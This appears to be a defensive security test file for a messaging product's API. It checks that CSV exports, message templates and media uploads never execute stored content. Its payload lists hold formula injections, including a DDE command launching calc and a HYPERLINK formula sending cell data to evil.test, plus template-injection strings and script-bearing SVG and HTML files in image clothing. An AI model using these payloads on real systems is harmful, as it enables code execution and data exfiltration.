/** Stored content is never executed: not by a spreadsheet, not by a browser, not by the product. */
import { call, callOk, createEnvironment, type Environment, pause } from "./support/environment.ts";
import { exactly, type Report } from "./support/report.ts";

export const name = "stored-content";

const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  "＝1+1",
  "'=1+1",
  "''=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test?x="&A1,"Click")',
  'x",=1+1,"',
  'x"\r\n=1+1,"',
  ";=1+1",
];
const TEMPLATES = [
  "{{7*7}}",
  "${7*7}",
  "#{7*7}",
  "<%= 7*7 %>",
  "{{constructor.constructor('return 49')()}}",
  "{{__proto__}}",
  "{% raw %}49{% endraw %}",
  "{{this}}",
];
const PAGES: [fileName: string, type: string, content: string][] = [
  ["a.svg", "image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'],
  ["a.html", "text/html", "<script>alert(1)</script>"],
  ["a.png", "image/png", "<!doctype html><script>alert(1)</script>"],
  [
    "a.jpg",
    "image/jpeg",
    "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
  ],
  ["a.js", "text/javascript", "alert(1)"],
];

export async function run(report: Report): Promise<void> {
  const environment = await createEnvironment();
  try {
    await spreadsheets(report, environment);
    await templates(report, environment);
    await pages(report, environment);
  } finally {
    await environment.close();
  }
}

async function spreadsheets(report: Report, { url, token }: Environment): Promise<void> {
  for (const [n, text] of FORMULAS.entries()) {
    await callOk(`${url}/api/quick-replies`, {
      token,
      body: { title: `${text}${n}`, content: text, shortcut: `=${n}`, category: `@${n}` },
    });
  }
  const contents = async (): Promise<string[]> =>
    (await callOk(`${url}/api/quick-replies?limit=100`, { token })).body.data
      .map(({ content }: { content: string }) => content)
      .toSorted();
  const before = await contents();
  const { body: csv } = await callOk(`${url}/api/quick-replies/export`, { token });
  exactly(
    report,
    "cells of the export that begin as a formula does",
    cellsOf(csv).filter((cell) => /^[\s]*[=+\-@＝＋－＠]/.test(cell)).length,
    0,
  );
  exactly(report, "its cells", cellsOf(csv).length, (FORMULAS.length + 1) * 4);
  const imported = await fetch(`${url}/api/quick-replies/import`, {
    method: "POST",
    headers: { authorization: `Bearer ${token}`, "content-type": "text/csv" },
    body: csv,
  });
  const { unchanged, failed } = (await imported.json()) as { unchanged: number; failed: number };
  exactly(report, "of them the import reads back as they were", unchanged, FORMULAS.length);
  exactly(report, "and does not", failed, 0);
  const isSame = JSON.stringify(await contents()) === JSON.stringify(before);
  report.figure("contents after it", isSame ? "the same" : "others", "the same", isSame);
}

/** Parses CSV as a spreadsheet does, independent of the product's parser. */
function cellsOf(csv: string): string[] {
  const cells: string[] = [];
  for (let at = 0; at < csv.length;) {
    let cell = "";
    if (csv[at] === '"') {
      for (at++; csv[at] !== '"' || csv[at + 1] === '"'; at++) {
        if (csv[at] === '"') at++;
        cell += csv[at];
      }
      at++;
    } else for (; at < csv.length && csv[at] !== "," && csv[at] !== "\r"; at++) cell += csv[at];
    cells.push(cell);
    at += csv[at] === "\r" ? 2 : 1;
  }
  return cells;
}

async function templates(report: Report, environment: Environment): Promise<void> {
  const { url, token, graph } = environment;
  const from = "6281100000000";
  await environment.deliver([{ from, id: "wamid.1", at: Date.now(), text: "hello" }]);
  const id = environment.conversationId(from);
  const { body: conversation } = await callOk(`${url}/api/conversations/${id}`, { token });
  // The contact exists once the conversation is projected.
  while ((await call(`${url}/api/contacts/${conversation.contact_id}`, { token })).status === 404) await pause(100);
  await callOk(`${url}/api/contacts/${conversation.contact_id}`, {
    method: "PATCH",
    token,
    body: { name: "{{agent.name}}{{7*7}}" },
  });
  const send = (text: string) =>
    call(`${url}/api/conversations/${id}/messages`, { token, body: { type: "text", content: { text } } });
  const answers = [];
  for (const text of TEMPLATES) answers.push({ text, sent: (await send(text)).body.content?.text });
  exactly(
    report,
    "templates sent as they stand",
    answers.filter(({ text, sent }) => text === sent).length,
    TEMPLATES.length,
  );
  const { body } = await send("Dear {{contact.name}}");
  report.figure(
    "a name with variables in it",
    body.content.text,
    "put in and not read",
    body.content.text === "Dear {{agent.name}}{{7*7}}",
  );
  const { messages } = graph.simulator.state;
  const until = Date.now() + 20_000;
  while (messages.length <= TEMPLATES.length && Date.now() < until) await pause(100);
  const atMeta = messages.map((message) => (message.body as { text: { body: string } }).text.body);
  exactly(
    report,
    "of them at Meta as they stand",
    atMeta.filter((text) => TEMPLATES.includes(text)).length,
    TEMPLATES.length,
  );
}

async function pages(report: Report, { url, token }: Environment): Promise<void> {
  let [runnable, sniffable] = [0, 0];
  for (const [fileName, type, content] of PAGES) {
    for (const path of ["/api/media", "/api/media/upload"]) {
      const form = new FormData();
      form.set("file", new File([content], fileName, { type }));
      const uploaded = await fetch(`${url}${path}`, {
        method: "POST",
        headers: { authorization: `Bearer ${token}` },
        body: form,
      });
      // A refused upload is safe too.
      if (!uploaded.ok) continue;
      const { media_id: id, url: link } = (await uploaded.json()) as { media_id: string; url?: string };
      const addresses = [`${url}/api/media/${id}`, ...(link ? [link.replace(/^https?:\/\/[^/]+/, url)] : [])];
      for (const address of addresses) {
        const response = await fetch(address, { headers: { authorization: `Bearer ${token}` } });
        await response.arrayBuffer();
        const header = (key: string): string => response.headers.get(key) ?? "";
        if (header("x-content-type-options") !== "nosniff") sniffable++;
        if (
          !header("content-disposition").startsWith("attachment") &&
          !/sandbox/.test(header("content-security-policy"))
        )
          runnable++;
      }
    }
  }
  exactly(report, "pages in files' clothes that a browser would open as a page of ours", runnable, 0);
  exactly(report, "files whose type a browser may guess", sniffable, 0);
}
